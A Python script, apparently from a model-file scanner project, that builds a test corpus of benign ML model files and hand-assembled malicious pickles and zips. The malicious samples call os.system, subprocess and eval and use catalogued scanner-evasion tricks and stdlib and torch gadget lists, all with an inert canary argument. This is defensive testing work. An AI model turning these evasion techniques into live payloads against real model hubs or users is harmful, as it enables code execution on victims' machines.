#!/usr/bin/env python3
"""Builds the @mlwarden/artifacts test corpus: benign models made with the real libraries and
malicious files assembled opcode by opcode, one or more per known scanner bypass (B1-B32 in
docs/research/supply-chain.md), plus malformed files. Writes files/ and manifest.json.

Safety: nothing malicious is ever loaded. Malicious pickles are assembled from opcodes with an
inert canary argument; every loader (pickle, joblib, numpy, torch) is disabled while they are
made. Only benign files are loaded back, to prove the real libraries accept them.

Deterministic: fixed seeds, fixed zip timestamps, gzip mtime zeroed, code objects compiled under
a fixed file name. Run with the pinned venv:  "$(scripts/py-venv artifacts)/bin/python" generate.py
"""
import argparse
import bz2
import contextlib
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import pickletools
import random
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

import generate_formats

HERE = os.path.dirname(os.path.abspath(__file__))
CANARY = "MLWARDEN_CANARY_DO_NOT_RUN"
FIXED_DATE = (1980, 1, 1, 0, 0, 0)

# --------------------------------------------------------------------------- opcode assembler


def PROTO(n):
    return b"\x80" + bytes([n])


def FRAME(n):
    return b"\x95" + struct.pack("<Q", n)


def SBU(s):  # SHORT_BINUNICODE
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


def BU(s):  # BINUNICODE
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def UNI(s):  # UNICODE (protocol 0)
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def STRING(s):  # STRING (protocol 0, quoted)
    return b"S'" + s.encode("ascii") + b"'\n"


def BINSTRING(s):
    b = s.encode("ascii")
    return b"T" + struct.pack("<i", len(b)) + b


def SHORT_BINSTRING(s):
    b = s.encode("ascii")
    return b"U" + bytes([len(b)]) + b


def SBB(b):  # SHORT_BINBYTES
    return b"C" + bytes([len(b)]) + b


def BINBYTES(b):
    return b"B" + struct.pack("<I", len(b)) + b


def GLOBAL(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def INST(m, n):
    return b"i" + m.encode() + b"\n" + n.encode() + b"\n"


def SG(m, n):  # STACK_GLOBAL with constant operands
    return SBU(m) + SBU(n) + b"\x93"


def BININT1(i):
    return b"K" + bytes([i])


def BININT(i):
    return b"J" + struct.pack("<i", i)


def BINPUT(i):
    return b"q" + bytes([i])


def BINGET(i):
    return b"h" + bytes([i])


def PUT(i):
    return b"p" + str(i).encode() + b"\n"


def GET(i):
    return b"g" + str(i).encode() + b"\n"


MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, STOP, POP, BUILD, OBJ = b"R", b".", b"0", b"b", b"o"
NEWOBJ, NEWOBJ_EX, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = b"\x81", b"\x92", b")", b"}", b"]"
MEMOIZE, NONE, DUP, SETITEM, SETITEMS, APPEND = b"\x94", b"N", b"2", b"s", b"u", b"a"


def callable_ref(module, name, proto):
    return SG(module, name) if proto >= 4 else GLOBAL(module, name)


def text(s, proto):
    return UNI(s) if proto == 0 else (SBU(s) if proto >= 4 else BU(s))


def reduce_payload(module, name, proto=2, args=None):
    """module.name(*args) as a complete pickle (the classic __reduce__ payload)."""
    args = [CANARY] if args is None else args
    head = PROTO(proto) if proto >= 2 else b""
    argbytes = b"".join(a if isinstance(a, bytes) else text(a, proto) for a in args)
    return head + callable_ref(module, name, proto) + MARK + argbytes + TUPLE + REDUCE + STOP


# --------------------------------------------------------------------------- guard


@contextlib.contextmanager
def loaders_disabled():
    """No loader may run while malicious samples are being made."""

    def refuse(*_a, **_k):
        raise RuntimeError("corpus generator: loading is disabled while writing malicious files")

    patched = [(pickle, "load"), (pickle, "loads"), (pickle, "Unpickler")]
    optional = [("joblib", "load"), ("numpy", "load"), ("torch", "load"), ("dill", "load"), ("dill", "loads")]
    for mod_name, attr in optional:
        mod = sys.modules.get(mod_name)
        if mod is not None:
            patched.append((mod, attr))
    saved = [(m, a, getattr(m, a)) for m, a in patched]
    for m, a in patched:
        setattr(m, a, refuse)
    try:
        yield
    finally:
        for m, a, v in saved:
            setattr(m, a, v)


# --------------------------------------------------------------------------- output and manifest


class Corpus:
    def __init__(self, root):
        self.root = root
        self.entries = []

    def add(self, rel, data, kind, expect, bypass=None, notes="", validate=True):
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(data)
        if validate and kind == "malicious" and data[:1] in (b"\x80", b"c", b"("):
            # Decode opcodes only (never load) to prove the bytes are what was intended.
            for _ in pickletools.genops(data):
                pass
        self.entries.append(
            {
                "path": rel,
                "sha256": hashlib.sha256(data).hexdigest(),
                "size": len(data),
                "kind": kind,
                **({"bypass": bypass} if bypass else {}),
                "expect": expect,
                **({"notes": notes} if notes else {}),
            }
        )

    def add_file(self, rel, kind, expect, **kw):
        with open(os.path.join(self.root, rel), "rb") as fh:
            data = fh.read()
        self.add(rel, data, kind, expect, **kw)


def malicious(severity="critical", imports=(), rules=(), verdict="findings", formats=()):
    e = {"verdict": verdict, "severityAtLeast": severity}
    if imports:
        e["imports"] = list(imports)
    if rules:
        e["rules"] = list(rules)
    if formats:
        e["formats"] = list(formats)
    return e


def clean(formats=()):
    e = {"verdict": "clean"}
    if formats:
        e["formats"] = list(formats)
    return e


def zip_bytes(members, compression=zipfile.ZIP_STORED, force_zip64=False):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
            info.compress_type = compression
            info.external_attr = 0o644 << 16
            with zf.open(info, "w", force_zip64=force_zip64) as fh:
                fh.write(data)
    return buf.getvalue()


def zero_gzip_mtime(data):
    return data[:4] + b"\x00\x00\x00\x00" + data[8:] if data[:2] == b"\x1f\x8b" else data


def patch_zip(data, name, *, flag_or=0, crc_xor=0, local_name=None):
    """Edits the local header and central directory entry of one member in place."""
    out = bytearray(data)
    enc = name.encode()
    i = 0
    while True:
        i = out.find(b"PK\x03\x04", i)
        if i < 0:
            break
        nlen = struct.unpack_from("<H", out, i + 26)[0]
        if bytes(out[i + 30 : i + 30 + nlen]) == enc:
            flags = struct.unpack_from("<H", out, i + 6)[0]
            struct.pack_into("<H", out, i + 6, flags | flag_or)
            crc = struct.unpack_from("<I", out, i + 14)[0]
            struct.pack_into("<I", out, i + 14, crc ^ crc_xor)
            if local_name is not None:
                assert len(local_name) == len(name)
                out[i + 30 : i + 30 + nlen] = local_name.encode()
        i += 4
    i = 0
    while True:
        i = out.find(b"PK\x01\x02", i)
        if i < 0:
            break
        nlen = struct.unpack_from("<H", out, i + 28)[0]
        if bytes(out[i + 46 : i + 46 + nlen]) == enc:
            flags = struct.unpack_from("<H", out, i + 8)[0]
            struct.pack_into("<H", out, i + 8, flags | flag_or)
            crc = struct.unpack_from("<I", out, i + 16)[0]
            struct.pack_into("<I", out, i + 16, crc ^ crc_xor)
        i += 4
    return bytes(out)


def site_independent_debug_pkl(data):
    """Replaces the venv's site-packages path in TorchScript debug pickles (source file names) with
    a fixed one, re-emitting the BINUNICODE opcodes that hold it (protocol 2: no frames), so the
    corpus does not depend on where the venv lives."""
    import torch

    site = os.path.dirname(os.path.dirname(torch.__file__))
    out = bytearray()
    ops = list(pickletools.genops(data))
    for i, (op, arg, pos) in enumerate(ops):
        end = ops[i + 1][2] if i + 1 < len(ops) else len(data)
        if op.name == "BINUNICODE" and site in arg:
            out += BU(arg.replace(site, "/site-packages"))
        else:
            out += data[pos:end]
    return bytes(out)


def normalise_torch_zip(data):
    """Rewrites a torch.save zip with fixed timestamps, a fixed serialization id and
    site-independent debug pickles."""
    src = zipfile.ZipFile(io.BytesIO(data))
    members = []
    for info in src.infolist():
        content = src.read(info.filename)
        if info.filename.endswith(".data/serialization_id"):
            content = b"0" * len(content)
        if info.filename.endswith(".debug_pkl"):
            content = site_independent_debug_pkl(content)
        members.append((info.filename, content))
    return zip_bytes(members)


# --------------------------------------------------------------------------- benign


def benign(c):
    import numpy as np

    rng = np.random.default_rng(0)
    random.seed(0)

    containers = {
        "ints": [0, 1, -1, 255, 65535, 2**31 - 1, -(2**31), 2**64 + 7, -(2**70)],
        "floats": [0.0, -1.5, 3.141592653589793, float("inf")],
        "text": ["", "ascii", "caf\u00e9", "\u1234\u20ac", "line\nbreak", "back\\slash"],
        "bytes": [b"", b"\x00\x80\xff", bytes(range(40))],
        "nested": ({"a": (1, 2, (3,))}, [None, True, False]),
        "sets": [{1, 2, 3}, frozenset({"x"})],
        "bytearray": bytearray(b"mutable"),
    }
    for p in range(6):
        data = pickle.dumps(containers, protocol=p)
        assert pickle.loads(data) == containers
        c.add(f"benign/containers-p{p}.pkl", data, "benign", clean(["pickle"]))

    from sklearn.datasets import make_classification
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.compose import ColumnTransformer

    X, y = make_classification(n_samples=120, n_features=6, random_state=0)
    models = {
        "logreg": LogisticRegression(max_iter=200).fit(X, y),
        "rf": RandomForestClassifier(n_estimators=4, max_depth=4, random_state=0).fit(X, y),
        "gb": GradientBoostingClassifier(n_estimators=5, random_state=0).fit(X, y),
        "pipeline-scaler-svc": Pipeline([("scale", StandardScaler()), ("svc", SVC(probability=False))]).fit(X, y),
        "iforest": IsolationForest(n_estimators=5, random_state=0).fit(X),
        "hgb": HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y),
    }
    Xc = np.column_stack([X[:, :3], rng.integers(0, 3, size=(120, 1))])
    models["columntransformer"] = Pipeline(
        [
            ("prep", ColumnTransformer([("num", StandardScaler(), [0, 1, 2]), ("cat", OneHotEncoder(), [3])])),
            ("clf", LogisticRegression(max_iter=200)),
        ]
    ).fit(Xc, y)
    protocols = {
        "logreg": (2, 4, 5),
        "rf": (0, 2, 4, 5),
        "gb": (4,),
        "pipeline-scaler-svc": (2, 4, 5),
        "iforest": (5,),
        "hgb": (5,),
        "columntransformer": (4,),
    }
    for name, model in models.items():
        for p in protocols[name]:
            data = pickle.dumps(model, protocol=p)
            pickle.loads(data)
            c.add(f"benign/sklearn-{name}-p{p}.pkl", data, "benign", clean(["pickle"]))

    import joblib

    rf = models["rf"]
    tmp = os.path.join(c.root, ".tmp.joblib")
    compressors = [("none", 0), ("zlib", ("zlib", 3)), ("gzip", ("gzip", 3)), ("bz2", ("bz2", 3)), ("lzma", ("lzma", 3)), ("xz", ("xz", 3)), ("lz4", ("lz4", 3))]
    for label, compress in compressors:
        joblib.dump(rf, tmp, compress=compress)
        with open(tmp, "rb") as fh:
            data = zero_gzip_mtime(fh.read())
        with open(tmp, "wb") as fh:
            fh.write(data)
        joblib.load(tmp)
        suffix = "" if label == "none" else f".{label}"
        c.add(f"benign/sklearn-rf{suffix}.joblib", data, "benign", clean(["joblib"]))
    joblib.dump({"objects": np.array([1, "two", None, 3.5], dtype=object), "numbers": np.arange(12.0).reshape(3, 4), "fortran": np.asfortranarray(rng.random((3, 2)))}, tmp)
    with open(tmp, "rb") as fh:
        data = fh.read()
    joblib.load(tmp)
    c.add("benign/joblib-object-array.joblib", data, "benign", clean(["joblib"]))
    os.remove(tmp)

    arrays = {
        "f8": rng.random((4, 3)),
        "i4": np.arange(10, dtype="<i4"),
        "struct": np.zeros(3, dtype=[("a", "<f4"), ("b", "<i2")]),
        "unicode": np.array(["alpha", "beta"]),
        "object": np.array([1, "x", None], dtype=object),
    }
    for name, arr in arrays.items():
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=(arr.dtype == object))
        data = buf.getvalue()
        np.load(io.BytesIO(data), allow_pickle=True)
        c.add(f"benign/numpy-{name}.npy", data, "benign", clean(["npy"]))
    for label, fn in (("stored", np.savez), ("deflated", np.savez_compressed)):
        buf = io.BytesIO()
        fn(buf, a=arrays["f8"], b=arrays["i4"])
        c.add(f"benign/numpy-{label}.npz", buf.getvalue(), "benign", clean(["zip"]))
    for p in (0, 2, 5):
        data = pickle.dumps({"w": arrays["f8"], "s": np.float32(1.5), "i": np.int64(7)}, protocol=p)
        pickle.loads(data)
        c.add(f"benign/numpy-arrays-p{p}.pkl", data, "benign", clean(["pickle"]))

    import xgboost as xgb

    clf = xgb.XGBClassifier(n_estimators=3, max_depth=2, random_state=0, n_jobs=1).fit(X, y)
    data = pickle.dumps(clf, protocol=4)
    pickle.loads(data)
    c.add("benign/xgboost-classifier-p4.pkl", data, "benign", clean(["pickle"]))
    booster_json = bytes(clf.get_booster().save_raw(raw_format="json"))
    c.add("benign/xgboost-booster.json", booster_json, "benign", clean())
    c.add("benign/xgboost-booster.ubj", bytes(clf.get_booster().save_raw(raw_format="ubj")), "benign", clean())

    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(6, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    opt = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    net(torch.randn(3, 6)).sum().backward()
    opt.step()

    def saved(obj, **kw):
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    data = normalise_torch_zip(saved(net.state_dict()))
    torch.load(io.BytesIO(data), weights_only=True)
    c.add("benign/torch-state-dict.pt", data, "benign", clean(["pytorch-zip"]))
    TORCH_ARCHIVES["torch-state-dict.pt"] = data
    data = normalise_torch_zip(saved(net))
    torch.load(io.BytesIO(data), weights_only=False)
    c.add("benign/torch-full-model.pt", data, "benign", clean(["pytorch-zip"]))
    data = normalise_torch_zip(saved(opt.state_dict()))
    torch.load(io.BytesIO(data), weights_only=True)
    c.add("benign/torch-optimizer.pt", data, "benign", clean(["pytorch-zip"]))
    # One storage only: the legacy format orders storages by memory address.
    single = torch.nn.Linear(6, 2, bias=False)
    data = fix_legacy_storage_keys(saved(single.state_dict(), _use_new_zipfile_serialization=False))
    torch.load(io.BytesIO(data), weights_only=False)
    c.add(
        "benign/torch-legacy-state-dict.pt",
        data,
        "benign",
        {"verdict": "findings", "severityAtMost": "medium", "rules": ["legacy-torch-format"], "formats": ["pytorch-legacy"]},
        notes="real legacy torch.save output: flagged medium by design (cannot be loaded weights_only)",
    )
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(net), buf)
    data = normalise_torch_zip(buf.getvalue())
    torch.jit.load(io.BytesIO(data))
    c.add(
        "benign/torch-torchscript.pt",
        data,
        "benign",
        {"verdict": "findings", "severityAtMost": "medium", "rules": ["torchscript-code"], "formats": ["pytorch-zip"]},
        notes="real TorchScript archive: its code/ files run on torch.jit.load, flagged medium by design",
    )

    import cloudpickle
    import dill

    ns = {"__name__": "__main__"}
    exec(
        compile(
            "class SentimentModel:\n"
            "    def __init__(self, threshold):\n"
            "        self.threshold = threshold\n"
            "    def predict(self, context, rows):\n"
            "        return [r > self.threshold for r in rows]\n"
            "def scale(x):\n"
            "    return x * 2\n",
            "<mlwarden-corpus>",
            "exec",
        ),
        ns,
    )
    data = cloudpickle.dumps(ns["SentimentModel"](0.5), protocol=4)
    cloudpickle.loads(data)
    c.add(
        "benign/cloudpickle-pyfunc-like.pkl",
        data,
        "benign",
        {"verdict": "findings", "rules": ["embedded-code"], "severityAtMost": "high", "noRules": ["dangerous-import"]},
        notes="what an MLflow pyfunc python_model.pkl holds: a class pickled by value; embedded code by design",
    )
    data = dill.dumps(ns["scale"], protocol=4)
    dill.loads(data)
    c.add(
        "benign/dill-function.pkl",
        data,
        "benign",
        {"verdict": "findings", "rules": ["embedded-code"], "severityAtMost": "high", "noRules": ["dangerous-import"]},
        notes="a function pickled by dill: embedded code by design",
    )

    c.add("benign/README.txt", b"A small model card.\nTrained on synthetic data.\n", "benign", clean())
    c.add("benign/conda.yaml", b"channels:\n- defaults\ndependencies:\n- python=3.11\n- pip\n", "benign", clean())
    c.add("benign/NOTES.txt", b"contributing\nguide\nSee the model card.\n", "benign", clean(), notes="text that decodes as a GLOBAL opcode: must not be reported")
    c.add("benign/config.json", json.dumps({"n_estimators": 4, "classes": [0, 1]}).encode(), "benign", clean())


# --------------------------------------------------------------------------- malicious


def build_malicious(c):
    M = "malicious"

    def crit(*imports, **kw):
        return malicious("critical", imports=imports, **kw)

    # Every protocol, classic REDUCE payload.
    for p in range(6):
        c.add(f"{M}/os-system-p{p}.pkl", reduce_payload("os", "system", p), M, crit("os.system"))
    c.add(f"{M}/posix-system-p2.pkl", reduce_payload("posix", "system", 2), M, crit("posix.system"))
    c.add(f"{M}/builtin-eval-p0.pkl", reduce_payload("__builtin__", "eval", 0, ["1+1"]), M, crit("__builtin__.eval"))
    c.add(f"{M}/builtins-exec-p4.pkl", reduce_payload("builtins", "exec", 4), M, crit("builtins.exec"))
    c.add(f"{M}/subprocess-popen-p3.pkl", reduce_payload("subprocess", "Popen", 3), M, crit("subprocess.Popen"))
    c.add(f"{M}/commands-getoutput-p1.pkl", reduce_payload("commands", "getoutput", 1), M, crit("commands.getoutput"))

    # B1: pip
    c.add(f"{M}/b01-pip-main.pkl", reduce_payload("pip", "main", 2), M, crit("pip.main"), bypass="B1")

    # B2: pickle inside a zip member with a non-pickle name
    evil = reduce_payload("os", "system", 2)
    c.add(f"{M}/b02-wrong-ext.zip", zip_bytes([("data.txt", evil)]), M, crit("os.system"), bypass="B2")

    # B3: local header name differs from the central directory name
    torch_like = [("archive/data.pkl", evil), ("archive/version", b"3\n")]
    base = zip_bytes(torch_like)
    c.add(f"{M}/b03-name-mismatch.zip", patch_zip(base, "archive/data.pkl", local_name="archive/datap.kl"), M, crit("os.system", rules=["archive-anomaly"]), bypass="B3")

    # B4: general-purpose flag bits that make Python's zipfile refuse
    for bit in (0x1, 0x20, 0x40):
        c.add(f"{M}/b04-flag-0x{bit:x}.zip", patch_zip(base, "archive/data.pkl", flag_or=bit), M, crit("os.system", rules=["archive-anomaly"]), bypass="B4")

    # B5: plain pickle under PyTorch names
    for name in ("pytorch_model.bin", "model.pt", "model.ckpt"):
        c.add(f"{M}/b05-{name}", evil, M, crit("os.system"), bypass="B5")

    # B6: wrong CRC
    c.add(f"{M}/b06-bad-crc.zip", patch_zip(base, "archive/data.pkl", crc_xor=0xDEADBEEF), M, crit("os.system", rules=["archive-anomaly"]), bypass="B6")
    c.add(f"{M}/b06-bad-crc-deflated.zip", patch_zip(zip_bytes(torch_like, zipfile.ZIP_DEFLATED), "archive/data.pkl", crc_xor=1), M, crit("os.system", rules=["archive-anomaly"]), bypass="B6")

    # B7: submodule and dotted attribute of a blocked package
    c.add(f"{M}/b07-asyncio-submodule.pkl", reduce_payload("asyncio.unix_events", "_UnixSubprocessTransport._start", 4), M, crit("asyncio.unix_events._UnixSubprocessTransport._start"), bypass="B7")

    # B8 (nullifAI): payload first, then the stream is deliberately broken
    broken = PROTO(2) + GLOBAL("os", "system") + MARK + BU(CANARY) + TUPLE + REDUCE + POP + b"\x00garbage"
    c.add(f"{M}/b08-nullifai-broken.pkl", broken, M, crit("os.system", rules=["malformed-pickle"], verdict="incomplete"), bypass="B8", validate=False)
    c.add(
        f"{M}/b08-nullifai-broken-in-zip.pt",
        zip_bytes([("model/data.pkl", broken), ("model/version", b"3\n")], zipfile.ZIP_DEFLATED),
        M,
        crit("os.system", rules=["malformed-pickle"], verdict="incomplete"),
        bypass="B8",
        notes="the zip variant of nullifAI; the 7z ones are made by generate_tf_7z.py",
    )
    storage = bytes(random.Random(8).getrandbits(8) for _ in range(32))
    TORCH_ARCHIVES["nullifai.pt"] = zip_bytes([("model/data.pkl", broken), ("model/version", b"3\n"), ("model/byteorder", b"little"), ("model/data/0", storage)])

    # B9: os.system then invalid bytes
    c.add(f"{M}/b09-invalid-bytes.pkl", reduce_payload("os", "system", 4)[:-1] + b"\xff\xfe\xfd", M, crit("os.system", rules=["malformed-pickle"], verdict="incomplete"), bypass="B9", validate=False)

    # B10: STACK_GLOBAL operands through the memo
    memo = PROTO(4) + SBU("os") + MEMOIZE + SBU("system") + MEMOIZE + POP + POP + BINGET(0) + BINGET(1) + b"\x93" + SBU(CANARY) + TUPLE1 + REDUCE + STOP
    c.add(f"{M}/b10-memo-stack-global.pkl", memo, M, crit("os.system"), bypass="B10")
    memo_text = PROTO(4) + STRING("subprocess") + PUT(7) + POP + STRING("check_output") + PUT(9) + POP + GET(7) + GET(9) + b"\x93" + SBU(CANARY) + TUPLE1 + REDUCE + STOP
    c.add(f"{M}/b10-memo-text-put-get.pkl", memo_text, M, crit("subprocess.check_output"), bypass="B10")

    # B11: missing memo key; non-string memo value
    c.add(f"{M}/b11-keyerror-memo.pkl", PROTO(4) + SBU("os") + BINGET(42) + b"\x93" + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, malicious("critical", rules=["unresolved-import"]), bypass="B11")
    c.add(f"{M}/b11-type-confusion-memo.pkl", PROTO(4) + BININT1(5) + MEMOIZE + POP + SBU("os") + BINGET(0) + b"\x93" + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, malicious("critical", rules=["unresolved-import"]), bypass="B11")

    # B12: STACK_GLOBAL operands from protocol-0/1 string opcodes
    for label, enc in (("string", STRING), ("binstring", BINSTRING), ("short-binstring", SHORT_BINSTRING)):
        c.add(f"{M}/b12-{label}-operands.pkl", PROTO(4) + enc("os") + enc("system") + b"\x93" + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, crit("os.system"), bypass="B12")

    # B13: module name computed at load time
    computed = PROTO(4) + SG("builtins", "str") + SBU("os") + TUPLE1 + REDUCE + SBU("system") + b"\x93" + SBU(CANARY) + TUPLE1 + REDUCE + STOP
    c.add(f"{M}/b13-computed-operand.pkl", computed, M, malicious("critical", rules=["unresolved-import"]), bypass="B13")

    # B14: dotted attribute walk through a harmless module
    c.add(f"{M}/b14-pathlib-os-system.pkl", reduce_payload("pathlib", "os.system", 4), M, crit("pathlib.os.system"), bypass="B14")
    c.add(f"{M}/b14-shutil-os-system.pkl", reduce_payload("shutil", "os.system", 4), M, crit("shutil.os.system"), bypass="B14")
    c.add(f"{M}/b14-collections-builtins-eval.pkl", reduce_payload("collections", "__builtins__.eval", 4, ["1"]), M, crit("collections.__builtins__.eval"), bypass="B14")

    # B15: a call whose result is discarded (OBJ + POP), and the other call opcodes
    c.add(f"{M}/b15-obj-pop.pkl", PROTO(2) + MARK + GLOBAL("os", "system") + BU(CANARY) + OBJ + POP + NONE + STOP, M, crit("os.system"), bypass="B15")
    c.add(f"{M}/b15-inst.pkl", MARK + UNI(CANARY) + INST("os", "system") + POP + NONE + STOP, M, crit("os.system"), bypass="B15")
    c.add(f"{M}/b15-newobj.pkl", PROTO(2) + GLOBAL("subprocess", "Popen") + MARK + BU(CANARY) + TUPLE + NEWOBJ + STOP, M, crit("subprocess.Popen"), bypass="B15")
    c.add(f"{M}/b15-newobj-ex.pkl", PROTO(4) + SG("subprocess", "Popen") + SBU(CANARY) + TUPLE1 + EMPTY_DICT + NEWOBJ_EX + STOP, M, crit("subprocess.Popen"), bypass="B15")
    c.add(f"{M}/b15-build-setstate.pkl", PROTO(2) + GLOBAL("os", "_wrap_close") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD + STOP, M, crit("os._wrap_close"), bypass="B15")

    # B16: FRAME length disagrees with the opcodes: a loader honouring frames sees hidden code
    hidden = GLOBAL("os", "system") + SBU(CANARY) + TUPLE1 + REDUCE
    pad = b"\x00" * 8
    frame_body = b"C" + bytes([len(pad) + len(hidden)]) + pad
    c.add(f"{M}/b16-frame-divergence.pkl", PROTO(4) + FRAME(len(frame_body)) + frame_body + hidden + STOP, M, crit("os.system", rules=["frame-mismatch"]), bypass="B16")

    # B17: universal trampolines
    c.add(f"{M}/b17-pkgutil-resolve-name.pkl", reduce_payload("pkgutil", "resolve_name", 4, ["os:system"]), M, crit("pkgutil.resolve_name"), bypass="B17")
    locate = PROTO(4) + SG("operator", "methodcaller") + SBU("system") + SBU(CANARY) + TUPLE2 + REDUCE + SG("pydoc", "locate") + SBU("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP
    c.add(f"{M}/b17-pydoc-locate-methodcaller.pkl", locate, M, crit("pydoc.locate", "operator.methodcaller"), bypass="B17")
    c.add(f"{M}/b17-importlib-import-module.pkl", reduce_payload("importlib", "import_module", 4, ["os"]), M, crit("importlib.import_module"), bypass="B17")
    marshal_fn = PROTO(4) + SG("types", "FunctionType") + SG("marshal", "loads") + SBB(b"\xe3" + b"\x00" * 8) + TUPLE1 + REDUCE + EMPTY_DICT + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP
    c.add(f"{M}/b17-marshal-functiontype.pkl", marshal_fn, M, crit("marshal.loads", rules=["embedded-code"]), bypass="B17")
    c.add(f"{M}/b17-types-codetype.pkl", reduce_payload("types", "CodeType", 4, [BININT1(0)]), M, malicious("high", rules=["embedded-code"]), bypass="B17")
    c.add(f"{M}/b17-functools-partial.pkl", PROTO(4) + SG("functools", "partial") + SG("os", "system") + SBU(CANARY) + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP, M, crit("functools.partial", "os.system"), bypass="B17")

    # B18: stdlib gadget functions (one advisory each)
    gadgets = [
        ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("idlelib.run", "Executive.runcode"),
        ("lib2to3.pgen2.grammar", "Grammar.loads"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        ("cProfile", "run"),
        ("cProfile", "runctx"),
        ("profile", "run"),
        ("trace", "Trace.run"),
        ("timeit", "timeit"),
        ("doctest", "debug_script"),
        ("ensurepip", "_run_pip"),
        ("code", "InteractiveInterpreter.runcode"),
        ("uuid", "_get_command_stdout"),
        ("_osx_support", "_read_output"),
        ("_aix_support", "_read_cmd_output"),
        ("imaplib", "IMAP4_stream"),
        ("_pyrepl.pager", "pipe_pager"),
        ("test.support.script_helper", "assert_python_ok"),
        ("venv", "create"),
        ("bdb", "Bdb.run"),
        ("runpy", "_run_code"),
        ("numpy.testing._private.utils", "runstring"),
        ("numpy.f2py.crackfortran", "getlincoef"),
        ("ctypes", "CDLL"),
        ("distutils.file_util", "write_file"),
        ("logging", "FileHandler"),
        ("_io", "FileIO"),
        ("urllib.request", "urlopen"),
        ("ssl", "get_server_certificate"),
        ("smtplib", "SMTP"),
        ("webbrowser", "open"),
        ("socket", "create_connection"),
        ("tempfile", "mkstemp"),
    ]
    for module, name in gadgets:
        slug = f"{module}.{name}".replace(".", "-").replace("_", "")
        sev = "critical" if module.split(".")[0] not in ("logging", "_io", "urllib", "ssl", "smtplib", "webbrowser", "socket", "tempfile", "distutils") else "high"
        c.add(f"{M}/b18-{slug}.pkl", reduce_payload(module, name, 4), M, malicious(sev, imports=[f"{module}.{name}"]), bypass="B18")

    # B19: torch gadgets
    torch_gadgets = [
        ("torch.utils.bottleneck.__main__", "run_cprofile"),
        ("torch._dynamo.guards", "GuardBuilder.get"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
        ("torch.utils.collect_env", "run"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("torch._inductor.codecache", "compile_file"),
        ("torch.utils._config_module", "ConfigModule.load_config"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        ("torch.serialization", "load"),
        ("torch.hub", "load"),
    ]
    for module, name in torch_gadgets:
        slug = f"{module}.{name}".replace(".", "-").replace("_", "")
        data = reduce_payload(module, name, 2)
        c.add(f"{M}/b19-{slug}.pt", zip_bytes([("archive/data.pkl", data), ("archive/version", b"3\n"), ("archive/byteorder", b"little")]), M, crit(f"{module}.{name}"), bypass="B19")

    # B20: nested pickles
    inner = reduce_payload("os", "system", 2)
    c.add(f"{M}/b20-pickle-loads-bytes.pkl", PROTO(4) + SG("pickle", "loads") + BINBYTES(inner) + TUPLE1 + REDUCE + STOP, M, crit("pickle.loads", "os.system"), bypass="B20")
    c.add(f"{M}/b20-pickle-loads-str-p0.pkl", GLOBAL("cPickle", "loads") + MARK + STRING(inner.decode("latin1").encode("unicode_escape").decode("ascii")) + TUPLE + REDUCE + STOP, M, crit("cPickle.loads", "os.system"), bypass="B20", validate=False, notes="genops refuses non-ASCII STRING; pickle.load(encoding=\"latin1\") accepts it")
    c.add(f"{M}/b20-torch-load-partial.pkl", PROTO(4) + SG("functools", "partial") + SG("torch", "load") + SBU("/tmp/" + CANARY) + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP, M, crit("torch.load", "functools.partial"), bypass="B20")
    c.add(f"{M}/b20-torch-storage-load-from-bytes.pkl", PROTO(2) + GLOBAL("torch.storage", "_load_from_bytes") + MARK + BINBYTES(inner) + TUPLE + REDUCE + STOP, M, crit("torch.storage._load_from_bytes", "os.system"), bypass="B20")
    c.add(f"{M}/b20-numpy-load.pkl", reduce_payload("numpy", "load", 2, ["/tmp/" + CANARY]), M, crit("numpy.load"), bypass="B20")
    c.add(f"{M}/b20-joblib-object-array.joblib", joblib_with_object_payload(), M, crit("os.system", formats=["joblib"]), bypass="B20", validate=False)

    # B21: legacy torch file whose "magic" comes from eval, payload in a later pickle
    magic_by_eval = PROTO(2) + GLOBAL("builtins", "eval") + MARK + BU("0x1950a86a20f9469cfc6c") + TUPLE + REDUCE + STOP
    legacy = magic_by_eval + pickle.dumps(1001, protocol=2) + pickle.dumps({"protocol_version": 1001}, protocol=2) + reduce_payload("os", "system", 2) + pickle.dumps([], protocol=2)
    c.add(f"{M}/b21-legacy-magic-eval.pt", legacy, M, crit("builtins.eval", "os.system"), bypass="B21")

    # B22: legacy torch tar format carrying a payload
